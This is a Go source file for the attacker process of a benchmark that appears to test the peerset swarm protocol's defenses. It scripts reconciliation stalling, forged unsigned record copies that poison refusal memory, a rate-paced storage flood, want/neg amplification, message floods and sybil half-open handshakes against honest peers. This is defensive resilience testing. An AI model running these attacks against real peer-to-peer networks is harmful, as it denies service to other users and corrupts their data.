//go:build !js

package main

// The attacker process: the same binary run as
//
//	hostilebench -attacker NAME -tracker URL -room R [-sybils N]
//
// It joins the room as an ordinary swarm peer (a raw swarm.Room, no
// session.Manager: it speaks the peerset protocol by hand), runs attack NAME
// against every honest peer it connects to, and writes one line per event on
// stdout for the benchmark: "ready" once it is in the room, "auth PEER" when a
// handshake succeeded, "done PEER" when its script against PEER ended, and
// "note ..." lines. It stops when its stdin closes (or when it is killed).

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/pion/webrtc/v4"

	"github.com/peersetdb/peerset/pkg/merkle"
	"github.com/peersetdb/peerset/pkg/peerset"
	"github.com/peersetdb/peerset/pkg/record"
	"github.com/peersetdb/peerset/pkg/swarm"
	"github.com/peersetdb/peerset/pkg/swarm/session"
	"github.com/peersetdb/peerset/pkg/wire"
)

// Attack names, in the order of the table.
const (
	attackStall    = "stall"    // H1: endless reconciliation
	attackForged   = "forged"   // H2: forged refusals
	attackStorage  = "storage"  // H4: storage flood
	attackWants    = "wants"    // M3: repeated wants and neg amplification
	attackNegs     = "negs"     // M3: neg amplification alone
	attackRoots    = "roots"    // generic message flood
	attackHalfOpen = "halfopen" // M5: stalled handshakes
)

var allAttacks = []string{attackStall, attackForged, attackStorage, attackWants, attackNegs, attackRoots, attackHalfOpen}

// settle says when a row may end, besides convergence plus the linger time.
type settle int

const (
	settleDone      settle = iota // the attacker's script ended with both honest peers
	settleBanned                  // both honest peers banned the attacker's key
	settleHandshake               // a handshake timeout went by (stalled handshakes are never struck)
)

// attackInfo describes an attack for the table's notes, and when its row
// may end.
var attackInfo = map[string]struct {
	label  string
	settle settle
	what   string
}{
	attackStall:    {"stalling reconciliation (H1)", settleBanned, "nonce ff…ff so that the victim initiates, and a random root; every `neg` is answered with an empty id list up to a far-future bound and a random fingerprint to ∞, forever"},
	attackForged:   {"forged refusals (H2)", settleDone, "nonce 00…00 (it initiates, so the victim does not); crawls the victim's ids with `neg`s asking for id lists, pulls its records with `want`s, then sends each victim every record it learned from either, unsigned and with `created_at: 1` (the real id kept), in `records` batches of 20"},
	attackStorage:  {"storage flood (H4)", settleDone, "10,000 deletions of random UUIDs under one key, then 10,000 records under 10,000 fresh keys, in `records` batches of 100, one batch per 25 ms (40 msg/s, under the 100 msg/s flood bucket), to each victim"},
	attackWants:    {"repeated wants (M3)", settleBanned, "crawls the victim's ids, then sends the same `want` of 256 ids and a 20-byte `neg` asking for the whole id list, 45 of each per second (under the flood bucket), until cut off"},
	attackNegs:     {"neg amplification (M3)", settleBanned, "the 20-byte `neg` asking for the whole id list alone, 90 per second (under the flood bucket), until cut off"},
	attackRoots:    {"message flood", settleBanned, "`peerset/root` messages as fast as the data channel takes them"},
	attackHalfOpen: {"half-open handshakes (M5)", settleHandshake, "N swarm peers (each with its own tracker connection and peer id, not connected to each other) open data channels to the victims and never send `hello`; they reconnect whenever dropped"},
}

// attackerConfig is the attacker process's command line.
type attackerConfig struct {
	Attack  string
	Tracker string
	Room    string
	Sybils  int
}

// isAttackerInvocation reports whether args start an attacker process (the
// benchmark always puts -attacker first).
func isAttackerInvocation(args []string) bool {
	return len(args) > 0 && (args[0] == "-attacker" || strings.HasPrefix(args[0], "-attacker="))
}

func parseAttackerArgs(args []string) (attackerConfig, error) {
	var c attackerConfig
	fs := flag.NewFlagSet("hostilebench attacker", flag.ContinueOnError)
	fs.SetOutput(io.Discard)
	fs.StringVar(&c.Attack, "attacker", "", "attack to run")
	fs.StringVar(&c.Tracker, "tracker", "", "tracker URL")
	fs.StringVar(&c.Room, "room", "", "room name")
	fs.IntVar(&c.Sybils, "sybils", 12, "swarm peers of the half-open attack")
	if err := fs.Parse(args); err != nil {
		return c, err
	}
	if _, ok := attackInfo[c.Attack]; !ok {
		return c, fmt.Errorf("unknown attack %q (one of %s)", c.Attack, strings.Join(allAttacks, ", "))
	}
	if c.Tracker == "" || c.Room == "" {
		return c, errors.New("-tracker and -room are required")
	}
	return c, nil
}

// attackerMain runs an attacker process and returns its exit code.
func attackerMain(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
	cfg, err := parseAttackerArgs(args)
	if err != nil {
		fmt.Fprintln(stderr, "hostilebench attacker:", err)
		return 2
	}
	if err := runAttacker(cfg, stdin, stdout); err != nil {
		fmt.Fprintln(stderr, "hostilebench attacker:", err)
		return 1
	}
	return 0
}

type attacker struct {
	cfg    attackerConfig
	key    *record.SecretKey
	roomID string
	out    *bufio.Writer
	outMu  sync.Mutex

	mu      sync.Mutex
	victims map[*swarm.Peer]*victim
	pool    []*record.Event // records learned from the victims (forged)
	poolIDs map[[32]byte]bool

	flood [][]byte // the storage flood's records payloads, signed in advance
}

func runAttacker(cfg attackerConfig, stdin io.Reader, stdout io.Writer) error {
	key, err := record.GenerateKey()
	if err != nil {
		return err
	}
	a := &attacker{cfg: cfg, key: key, roomID: record.RoomID(peerset.DefaultAppID, cfg.Room),
		out: bufio.NewWriter(stdout), victims: map[*swarm.Peer]*victim{}, poolIDs: map[[32]byte]bool{}}
	if cfg.Attack == attackStorage {
		if a.flood, err = floodPayloads(a.roomID); err != nil {
			return err
		}
	}
	peers := 1
	if cfg.Attack == attackHalfOpen {
		peers = max(cfg.Sybils, 1)
	}
	ids := make([]string, peers)
	for i := range ids {
		if ids[i], err = wire.NewPeerID(); err != nil {
			return err
		}
	}
	var rooms []*swarm.Room
	defer func() {
		for _, r := range rooms {
			_ = r.Close()
		}
	}()
	for i, id := range ids {
		room, err := a.newRoom(id)
		if err != nil {
			return err
		}
		// Sybils do not connect to each other: they are there for the victims.
		for j, other := range ids {
			if j != i {
				room.Ban(other, 24*time.Hour)
			}
		}
		if err := room.Start(context.Background()); err != nil {
			return err
		}
		rooms = append(rooms, room)
	}
	pk := key.Public()
	a.say("key %s", hex.EncodeToString(pk[:]))
	a.say("ready")
	_, _ = io.Copy(io.Discard, stdin) // until the benchmark closes our stdin or exits
	return nil
}

func (a *attacker) say(format string, args ...any) {
	a.outMu.Lock()
	defer a.outMu.Unlock()
	fmt.Fprintf(a.out, format+"\n", args...)
	_ = a.out.Flush()
}

func (a *attacker) newRoom(peerID string) (*swarm.Room, error) {
	room, err := swarm.NewRoom(swarm.Config{Room: a.cfg.Room, PeerID: peerID, Trackers: []string{a.cfg.Tracker},
		ICEServers: []webrtc.ICEServer{}, LoopbackCandidates: true, AnnounceSteady: time.Second,
		TrackerReconnectMin: 100 * time.Millisecond, TrackerReconnectMax: time.Second})
	if err != nil {
		return nil, err
	}
	for _, action := range session.Actions {
		if err := room.Handle(action, a.onMessage); err != nil {
			return nil, err
		}
	}
	room.OnPeerJoin(a.onJoin)
	room.OnPeerLeave(func(p *swarm.Peer, reason error) {
		a.mu.Lock()
		delete(a.victims, p)
		a.mu.Unlock()
		a.say("note %s left: %v", p.ID(), reason)
	})
	return room, nil
}

// victim is one connection to an honest peer.
type victim struct {
	a     *attacker
	p     *swarm.Peer
	in    chan swarm.ActionMessage // everything but hellos; dropped when full
	hello chan session.Hello
	their session.Hello
	sid   uint32
	authd atomic.Bool // our auth is sent: the victim accepts records from now on

	forgeMu sync.Mutex
	forged  map[[32]byte]bool // ids of the pool already sent forged to it
}

func (a *attacker) onJoin(p *swarm.Peer) {
	if a.cfg.Attack == attackHalfOpen {
		a.say("note %s joined (never greeted)", p.ID())
		return
	}
	v := &victim{a: a, p: p, in: make(chan swarm.ActionMessage, 4096), hello: make(chan session.Hello, 1), forged: map[[32]byte]bool{}}
	a.mu.Lock()
	a.victims[p] = v
	a.mu.Unlock()
	go func() {
		err := v.run()
		if err != nil {
			a.say("note %s: %v", p.ID(), err)
		}
		a.say("done %s", p.ID())
	}()
}

func (a *attacker) onMessage(p *swarm.Peer, msg swarm.ActionMessage) {
	a.mu.Lock()
	v := a.victims[p]
	a.mu.Unlock()
	if v == nil {
		return
	}
	msg.Payload = bytes.Clone(msg.Payload)
	if msg.Type == session.ActionHello {
		if h, err := session.DecodeHello(msg.Payload); err == nil {
			select {
			case v.hello <- h:
			default:
			}
		}
		return
	}
	select {
	case v.in <- msg:
	default:
	}
}

var errGone = errors.New("the victim is gone")

func (v *victim) send(action string, payload []byte) error {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := v.p.Send(ctx, swarm.BinaryMessage(action, payload)); err != nil {
		select {
		case <-v.p.Done():
			return errGone
		default:
			return err
		}
	}
	return nil
}

// handshake sends our hello with nonce, waits for the victim's and answers
// it: an honest handshake with the attacker's own key.
func (v *victim) handshake(nonce [32]byte) error {
	a := v.a
	if err := v.send(session.ActionHello, session.EncodeHello(session.Hello{Version: session.ProtocolVersion, Room: a.roomID,
		PubKey: a.key.Public(), Nonce: nonce, Limits: session.DefaultLimits()})); err != nil {
		return err
	}
	select {
	case v.their = <-v.hello:
	case <-v.p.Done():
		return errGone
	case <-time.After(20 * time.Second):
		return errors.New("no hello from the victim")
	}
	auth, err := session.SignAuth(a.key, a.roomID, v.their.Nonce, nonce, v.p.LocalFingerprint(), v.p.RemoteFingerprint())
	if err != nil {
		return err
	}
	if err := v.send(session.ActionAuth, auth); err != nil {
		return err
	}
	v.authd.Store(true)
	a.say("auth %s", v.p.ID())
	return nil
}

// next waits for the next message of the victim.
func (v *victim) next(timeout time.Duration) (swarm.ActionMessage, error) {
	select {
	case m := <-v.in:
		return m, nil
	case <-v.p.Done():
		return swarm.ActionMessage{}, errGone
	case <-time.After(timeout):
		return swarm.ActionMessage{}, errors.New("timed out waiting for the victim")
	}
}

// drain throws away what the victim sent so far.
func (v *victim) drain() {
	for {
		select {
		case <-v.in:
		default:
			return
		}
	}
}

func (v *victim) run() error {
	var low, high [32]byte
	for i := range high {
		high[i] = 0xff
	}
	switch v.a.cfg.Attack {
	case attackStall:
		return v.stall(high)
	case attackForged:
		if err := v.handshake(low); err != nil {
			return err
		}
		return v.forge()
	case attackStorage:
		if err := v.handshake(low); err != nil {
			return err
		}
		return v.storageFlood()
	case attackWants, attackNegs:
		if err := v.handshake(low); err != nil {
			return err
		}
		return v.repeatWants(v.a.cfg.Attack == attackWants)
	case attackRoots:
		if err := v.handshake(low); err != nil {
			return err
		}
		return v.rootFlood()
	}
	return fmt.Errorf("attack %q has no script", v.a.cfg.Attack)
}

// Wire payloads, written as docs/protocol.md §4.3 specifies them (the
// session package keeps its encoders unexported).

func rootPayload(fp merkle.Fingerprint, count int) []byte {
	return fmt.Appendf(nil, `{"root":"%x","count":%d}`, fp[:], count)
}

func negPayload(sid uint32, msg []byte) []byte {
	return fmt.Appendf(nil, `{"sid":%d,"msg":"%s"}`, sid, base64.StdEncoding.EncodeToString(msg))
}

func wantPayload(ids [][32]byte) []byte {
	raw := make([]byte, 0, 32*len(ids))
	for _, id := range ids {
		raw = append(raw, id[:]...)
	}
	return fmt.Appendf(nil, `{"ids":"%s"}`, base64.StdEncoding.EncodeToString(raw))
}

func recordsPayload(events [][]byte) []byte {
	out := []byte(`{"events":[`)
	out = append(out, bytes.Join(events, []byte{','})...)
	return append(out, "]}"...)
}

type negJSON struct {
	SID int64  `json:"sid"`
	Msg string `json:"msg"`
}

type recordsJSON struct {
	Events  []json.RawMessage `json:"events"`
	Missing string            `json:"missing"`
}

// askAll is the 20-byte-ish reconciliation message that asks for the
// responder's whole id list.
func askAll() []byte {
	return merkle.Message{Ranges: []merkle.Range{{Upper: merkle.MaxBound, Mode: merkle.ModeIDList}}}.Encode()
}

// stall (H1): the victim must initiate (our nonce is the higher one and our
// root differs); each of its reconciliation messages gets "nothing of mine up
// to the far future, and a random fingerprint after", so that a round never
// narrows anything down.
func (v *victim) stall(nonce [32]byte) error {
	if err := v.handshake(nonce); err != nil {
		return err
	}
	var fp merkle.Fingerprint
	_, _ = rand.Read(fp[:])
	if err := v.send(session.ActionRoot, rootPayload(fp, 1)); err != nil {
		return err
	}
	answered := 0
	defer func() { v.a.say("note %s: %d stalled rounds answered", v.p.ID(), answered) }()
	for {
		m, err := v.next(time.Hour)
		if err != nil {
			return err
		}
		if m.Type != session.ActionNeg {
			continue
		}
		var n negJSON
		if json.Unmarshal(m.Payload, &n) != nil {
			continue
		}
		_, _ = rand.Read(fp[:])
		reply := merkle.Message{Ranges: []merkle.Range{
			{Upper: merkle.TimeBound(1 << 40), Mode: merkle.ModeIDList},
			{Upper: merkle.MaxBound, Mode: merkle.ModeFingerprint, Fingerprint: fp},
		}}.Encode()
		if err := v.send(session.ActionNegReply, negPayload(uint32(n.SID), reply)); err != nil {
			return err
		}
		answered++
	}
}

// crawl learns the victim's ids: it asks for the whole id list, then for the
// rest after the last bound of each truncated answer.
func (v *victim) crawl() ([][32]byte, error) {
	var ids [][32]byte
	var from merkle.Bound
	skip := false
	for range 10000 {
		ranges := []merkle.Range{{Upper: merkle.MaxBound, Mode: merkle.ModeIDList}}
		if skip {
			ranges = append([]merkle.Range{{Upper: from, Mode: merkle.ModeSkip}}, ranges...)
		}
		v.sid++
		sid := v.sid
		if err := v.send(session.ActionNeg, negPayload(sid, merkle.Message{Ranges: ranges}.Encode())); err != nil {
			return nil, err
		}
		var reply []byte
		for reply == nil {
			m, err := v.next(15 * time.Second)
			if err != nil {
				return nil, err
			}
			var n negJSON
			if m.Type != session.ActionNegReply || json.Unmarshal(m.Payload, &n) != nil || uint32(n.SID) != sid {
				continue
			}
			if reply, err = base64.StdEncoding.DecodeString(n.Msg); err != nil {
				return nil, err
			}
		}
		msg, err := merkle.DecodeMessage(reply)
		if err != nil {
			return nil, err
		}
		more := false
		for _, r := range msg.Ranges {
			switch r.Mode {
			case merkle.ModeIDList:
				ids = append(ids, r.IDs...)
				if !r.Upper.IsInfinite() {
					from, skip = r.Upper, true
				}
			case merkle.ModeFingerprint:
				more = true
			}
		}
		if !more {
			break
		}
	}
	return ids, nil
}

// pull asks the victim for the records with these ids, in wants of at most
// its limit, one at a time, and returns what it sent.
func (v *victim) pull(ids [][32]byte) ([]*record.Event, error) {
	per := max(min(v.their.Limits.Want, session.DefaultMaxWantIDs), 1)
	var out []*record.Event
	for i := 0; i < len(ids); i += per {
		chunk := ids[i:min(i+per, len(ids))]
		waiting := make(map[[32]byte]bool, len(chunk))
		for _, id := range chunk {
			waiting[id] = true
		}
		if err := v.send(session.ActionWant, wantPayload(chunk)); err != nil {
			return out, err
		}
		for len(waiting) > 0 {
			m, err := v.next(15 * time.Second)
			if err != nil {
				return out, err
			}
			var r recordsJSON
			if m.Type != session.ActionRecords || json.Unmarshal(m.Payload, &r) != nil {
				continue
			}
			for _, raw := range r.Events {
				e, err := record.ParseEvent(raw, 0)
				if err != nil || !waiting[e.ID] {
					continue
				}
				delete(waiting, e.ID)
				out = append(out, e)
			}
			if miss, err := base64.StdEncoding.DecodeString(r.Missing); err == nil {
				for j := 0; j+32 <= len(miss); j += 32 {
					delete(waiting, [32]byte(miss[j:j+32]))
				}
			}
		}
	}
	return out, nil
}

// forge (H2): learn the victim's records, add them to the pool, then send
// every victim forged copies of the pool: unsigned, created_at 1, the real
// id. Before the fix they were refused as expired without a strike and their
// ids entered the refusal memory, so the victim stopped asking anyone for
// them.
func (v *victim) forge() error {
	ids, err := v.crawl()
	if err != nil {
		return err
	}
	events, err := v.pull(ids)
	v.a.say("note %s: crawled %d ids, pulled %d records", v.p.ID(), len(ids), len(events))
	a := v.a
	a.mu.Lock()
	for _, e := range events {
		if !a.poolIDs[e.ID] {
			a.poolIDs[e.ID] = true
			a.pool = append(a.pool, e)
		}
	}
	targets := make([]*victim, 0, len(a.victims))
	for _, t := range a.victims {
		if t.authd.Load() {
			targets = append(targets, t)
		}
	}
	a.mu.Unlock()
	for _, t := range targets {
		t.sendForged()
	}
	return err
}

func (v *victim) sendForged() {
	v.forgeMu.Lock()
	defer v.forgeMu.Unlock()
	v.a.mu.Lock()
	pool := v.a.pool
	v.a.mu.Unlock()
	const per = 20
	var batch [][]byte
	sent := 0
	flush := func() bool {
		if len(batch) == 0 {
			return true
		}
		err := v.send(session.ActionRecords, recordsPayload(batch))
		sent += len(batch)
		batch = batch[:0]
		return err == nil
	}
	for _, e := range pool {
		if v.forged[e.ID] {
			continue
		}
		v.forged[e.ID] = true
		c := *e
		c.CreatedAt = 1
		c.Sig = [64]byte{}
		batch = append(batch, c.AppendJSON(nil))
		if len(batch) == per && !flush() {
			break
		}
	}
	flush()
	v.a.say("note %s: sent %d forged copies", v.p.ID(), sent)
}

// storageFlood (H4): the signed flood, paced under the flood bucket.
func (v *victim) storageFlood() error {
	for i, payload := range v.a.flood {
		if err := v.send(session.ActionRecords, payload); err != nil {
			v.a.say("note %s: flood cut after %d of %d batches: %v", v.p.ID(), i, len(v.a.flood), err)
			return nil
		}
		v.drain()
		time.Sleep(25 * time.Millisecond)
	}
	v.a.say("note %s: flood of %d batches sent", v.p.ID(), len(v.a.flood))
	return nil
}

// floodPayloads signs 10,000 deletions of random UUIDs under one key and
// 10,000 records under 10,000 fresh keys, in records payloads of 100.
func floodPayloads(roomID string) ([][]byte, error) {
	const n, per = 10000, 100
	events := make([][]byte, 2*n)
	del, err := record.GenerateKey()
	if err != nil {
		return nil, err
	}
	now := time.Now()
	workers := runtime.NumCPU()
	var wg sync.WaitGroup
	errs := make(chan error, workers)
	for w := range workers {
		wg.Go(func() {
			for i := w; i < 2*n; i += workers {
				var e *record.Event
				var err error
				if i < n {
					var uuid string
					if uuid, err = record.NewUUID(); err == nil {
						e, err = record.NewDeletion(del, roomID, uuid, now.Add(-time.Duration(i)*time.Second))
					}
				} else {
					var k *record.SecretKey
					if k, err = record.GenerateKey(); err == nil {
						e, err = record.New(record.Draft{Text: fmt.Sprintf("flood record number %d from a key of its own", i-n),
							CreatedAt: now.Add(-time.Duration(i-n) * time.Second)}, k, roomID, record.Limits{})
					}
				}
				if err != nil {
					errs <- err
					return
				}
				events[i] = e.AppendJSON(nil)
			}
		})
	}
	wg.Wait()
	select {
	case err := <-errs:
		return nil, err
	default:
	}
	var out [][]byte
	for i := 0; i < len(events); i += per {
		out = append(out, recordsPayload(events[i:min(i+per, len(events))]))
	}
	return out, nil
}

// repeatWants (M3): the same want of 256 ids and a neg asking for every id,
// over and over, paced under the flood bucket (about 90 messages a second);
// without wants, the negs alone at the same message rate.
func (v *victim) repeatWants(wants bool) error {
	var want []byte
	every := 11 * time.Millisecond
	if wants {
		ids, err := v.crawl()
		if err != nil {
			return err
		}
		if len(ids) == 0 {
			return errors.New("the victim holds nothing to ask for")
		}
		want = wantPayload(ids[:min(len(ids), max(min(v.their.Limits.Want, session.DefaultMaxWantIDs), 1))])
		every *= 2
	}
	ask := askAll()
	wantsSent, negsSent := 0, 0
	defer func() { v.a.say("note %s: %d wants and %d negs sent", v.p.ID(), wantsSent, negsSent) }()
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		select {
		case <-v.p.Done():
			return nil
		case <-tick.C:
		}
		v.drain()
		if want != nil {
			if v.send(session.ActionWant, want) != nil {
				return nil
			}
			wantsSent++
		}
		v.sid++
		if v.send(session.ActionNeg, negPayload(v.sid, ask)) != nil {
			return nil
		}
		negsSent++
	}
}

// rootFlood: root announcements as fast as the data channel takes them.
func (v *victim) rootFlood() error {
	payload := rootPayload(merkle.Fingerprint{}, 0)
	sent := 0
	defer func() { v.a.say("note %s: %d roots sent", v.p.ID(), sent) }()
	for {
		if sent%256 == 0 {
			v.drain()
		}
		if err := v.send(session.ActionRoot, payload); err != nil {
			return nil
		}
		sent++
	}
}
